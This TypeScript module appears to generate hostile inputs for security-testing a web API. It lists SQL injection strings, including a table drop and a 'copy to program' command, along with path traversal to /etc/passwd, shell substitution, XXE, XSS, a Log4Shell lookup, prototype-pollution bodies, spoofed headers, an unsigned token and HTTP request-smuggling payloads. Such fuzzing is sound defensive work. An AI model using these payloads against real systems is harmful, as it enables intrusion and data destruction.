/** What a hostile caller puts where a value is expected: generated for every parameter of every operation, so that a new one is covered by itself. Pure. */

/** Text that means something to a database, a shell, a page, a log, a path, a template or a parser. */
export const HOSTILE_TEXTS: readonly string[] = [
  "' or '1'='1",
  "'; drop table registry.identities; --",
  '1); select pg_sleep(3); --',
  "\\'; copy (select 1) to program 'id'; --",
  '$1',
  '%',
  '_______',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '$(id)',
  '`id`',
  '{{7*7}}',
  '\u0024{7*7}',
  '<script>alert(1)</script>',
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '=cmd|calc!A1',
  '\u0000',
  'VERDI\u0000',
  '\ud800',
  '\udfff\ud800',
  '\u202eVERDI',
  'İ',
  'ﬀ'.repeat(40),
  'a\r\nX-Forged: 1',
  '__proto__',
  'constructor',
  'a'.repeat(5_000),
  `${'a'.repeat(60)}!`,
  ' '.repeat(300),
  '9999-99-99',
  '0000-00-00',
  '-infinity',
  'infinity',
  '1e309',
  'NaN',
];

const nested = (depth: number): unknown => {
  let value: unknown = 'x';
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? [value] : { a: value };
  return value;
};

/** Values of other kinds than the one expected. */
export const HOSTILE_VALUES: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  {},
  [null],
  Array.from({ length: 2_000 }, () => 'a'),
  nested(60),
  { $ne: null },
  { length: 1e9 },
];

/** Places of an object's members and elements, the deepest included: JSON pointers' steps. */
function* places(
  value: unknown,
  path: readonly (string | number)[] = [],
): Generator<readonly (string | number)[]> {
  if (typeof value !== 'object' || value === null) return;
  for (const [name, inner] of Object.entries(value)) {
    const at = [...path, Array.isArray(value) ? Number(name) : name];
    yield at;
    yield* places(inner, at);
  }
}

function put(value: unknown, path: readonly (string | number)[], hostile: unknown): unknown {
  const [step, ...rest] = path;
  if (step === undefined) return hostile;
  if (Array.isArray(value)) return value.map((item, i) => (i === step ? put(item, rest, hostile) : item));
  return { ...(value as object), [step]: put((value as Record<string, unknown>)[step], rest, hostile) };
}

/** A sound body with each of its values in turn replaced by each hostile one. */
export function* hostileBodies(sound: unknown): Generator<unknown> {
  for (const path of places(sound))
    for (const hostile of [...HOSTILE_TEXTS, ...HOSTILE_VALUES]) yield put(sound, path, hostile);
}

/** Bodies that are no JSON, or not the JSON that was announced: text and media type. */
export const BROKEN_BODIES: readonly (readonly [body: string, type: string])[] = [
  ['', 'application/json'],
  ['{', 'application/json'],
  ['{"a":1,}', 'application/json'],
  ['{"a":\u0000}', 'application/json'],
  ['"\\ud800"', 'application/json'],
  ['null', 'application/json'],
  ['[]', 'application/json'],
  ['1e999', 'application/json'],
  ['{"__proto__":{"admin":true}}', 'application/json'],
  ['{"constructor":{"prototype":{"admin":true}}}', 'application/json'],
  ['{"scopo":"a","scopo":"b"}', 'application/json'],
  ['['.repeat(5_000), 'application/json'],
  [`${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`, 'application/json'],
  ['{}', 'text/plain'],
  ['a=1', 'application/x-www-form-urlencoded'],
  ['--x\r\n\r\n--x--', 'multipart/form-data; boundary=x'],
  ['<a/>', 'application/xml'],
  ['{}', 'application/json; charset=utf-7'],
  ['{}', ''],
];

/** Headers that ask to be believed. */
export const HOSTILE_HEADERS: readonly Readonly<Record<string, string>>[] = [
  { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1', forwarded: 'for=127.0.0.1' },
  { 'x-http-method-override': 'DELETE' },
  { 'x-original-url': '/metrics', 'x-rewrite-url': '/metrics' },
  { 'x-client-certificate': 'MIIB', 'x-ssl-client-verify': 'SUCCESS', 'x-ssl-client-s-dn': 'CN=U1' },
  { authorization: 'Basic cm9vdDpyb290' },
  { authorization: `Bearer ${'a'.repeat(6_000)}` },
  { authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJVMSJ9.' },
  { 'accept-language': `${'it;q=0.1,'.repeat(600)}en` },
  { accept: "' or 1=1 --", 'user-agent': '\u0024{jndi:ldap://x/a}' },
  { cookie: `__Host-sipop=${'A'.repeat(4_000)}` },
  { cookie: '__Host-sipop=%00; __Host-sipop=; a=b' },
  { 'if-none-match': '*', range: 'bytes=0-0' },
  { expect: '100-continue' },
  { host: 'evil.example' },
  { origin: 'https://evil.example', referer: 'https://evil.example/' },
  { 'content-encoding': 'gzip' },
];

/** Bytes on the wire that servers and proxies have read differently, or that never end (request smuggling, RFC 9112 section 11.2). */
export const SMUGGLED: readonly string[] = [
  'POST /v1/persons/read HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /status HTTP/1.1\r\nHost: a\r\n\r\n',
  'POST /v1/persons/read HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}GET /status HTTP/1.1\r\n\r\n',
  'POST /v1/persons/read HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n',
  'POST /v1/persons/read HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n',
  'POST /v1/persons/read HTTP/1.1\r\nHost : a\r\nContent-Length: 0\r\n\r\n',
  'POST /v1/persons/read HTTP/1.1\r\nHost: a\r\n folded: 1\r\nContent-Length: 0\r\n\r\n',
  'POST /v1/persons/read HTTP/1.1\r\nContent-Length: -1\r\nHost: a\r\n\r\n',
  'GET http://evil.example/ HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /v1/persons/read HTTP/9.9\r\nHost: a\r\n\r\n',
  'GET  /status\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\u0016\u0003\u0001\u0002\u0000\u0001\u0000',
  `GET /${'a'.repeat(30_000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
  `GET /status HTTP/1.1\r\nHost: a\r\nX: ${'a'.repeat(40_000)}\r\n\r\n`,
  `GET /status HTTP/1.1\r\nHost: a\r\n${'X: 1\r\n'.repeat(3_000)}\r\n`,
  `${'GET /status HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(100)}BROKEN\r\n\r\n`,
];
